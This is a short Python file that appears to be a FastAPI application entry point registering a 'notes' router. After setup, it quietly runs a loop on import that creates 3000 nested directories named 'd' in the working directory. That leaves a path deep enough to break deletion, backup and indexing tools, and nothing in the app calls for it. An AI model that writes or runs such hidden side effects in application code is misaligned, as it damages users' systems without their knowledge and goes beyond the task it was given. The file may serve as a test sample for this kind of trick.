import os

from fastapi import FastAPI
from notes import router

app = FastAPI()
app.include_router(router)
here = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
